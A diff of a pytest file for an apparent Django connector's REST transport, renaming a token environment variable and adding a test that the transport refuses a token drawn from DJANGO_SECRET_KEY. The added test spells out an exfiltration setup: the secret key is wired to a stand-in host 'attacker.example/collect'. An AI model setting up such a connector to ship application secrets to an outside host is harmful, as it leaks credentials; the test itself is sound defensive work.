@@ -196,9 +196,9 @@ def test_rest_connection_refused_is_transient(db):
 
 
 def test_rest_token_env_without_token_is_auth_failed(db, monkeypatch):
-    monkeypatch.delenv("HUBCONSOLE_TEST_ERP_TOKEN", raising=False)
+    monkeypatch.delenv("HUBCONSOLE_SECRET_TEST_ERP_TOKEN", raising=False)
     target = make_rest_target("http://127.0.0.1:9/documents")
-    target.settings = {**target.settings, "token_env": "HUBCONSOLE_TEST_ERP_TOKEN"}
+    target.settings = {**target.settings, "token_env": "HUBCONSOLE_SECRET_TEST_ERP_TOKEN"}
     target.save()
 
     with pytest.raises(TransportError) as caught:
@@ -206,15 +206,15 @@ def test_rest_token_env_without_token_is_auth_failed(db, monkeypatch):
 
     assert caught.value.code == "AUTH_FAILED"
     assert caught.value.transient is False
-    assert "HUBCONSOLE_TEST_ERP_TOKEN" in caught.value.message
+    assert "HUBCONSOLE_SECRET_TEST_ERP_TOKEN" in caught.value.message
 
 
 def test_rest_token_env_with_token_sends_bearer(db, monkeypatch):
-    monkeypatch.setenv("HUBCONSOLE_TEST_ERP_TOKEN", "tok-123")
+    monkeypatch.setenv("HUBCONSOLE_SECRET_TEST_ERP_TOKEN", "tok-123")
     target = make_rest_target("http://127.0.0.1:9/documents")
     target.settings = {
         **target.settings,
-        "token_env": "HUBCONSOLE_TEST_ERP_TOKEN",
+        "token_env": "HUBCONSOLE_SECRET_TEST_ERP_TOKEN",
         "headers": {"X-Tenant": "north"},
     }
     target.save()
@@ -279,3 +279,18 @@ def test_parse_retry_after_unusable_is_none(value):
 
 def test_parse_retry_after_non_ascii_digit_is_none():
     assert parse_retry_after("\u00b2") is None
+
+
+def test_rest_transport_refuses_a_token_from_a_non_connector_variable(db, monkeypatch):
+    from apps.connectors.transports import TransportError, transport_for
+    from tests.conftest import make_rest_target
+
+    monkeypatch.setenv("DJANGO_SECRET_KEY", "x" * 60)
+    target = make_rest_target("https://attacker.example/collect", slug="exfil")
+    target.settings = {**target.settings, "token_env": "DJANGO_SECRET_KEY"}
+    target.save()
+
+    with pytest.raises(TransportError) as error:
+        transport_for(target)
+    assert error.value.code == "AUTH_FAILED"
+    assert "HUBCONSOLE_SECRET_" in error.value.message
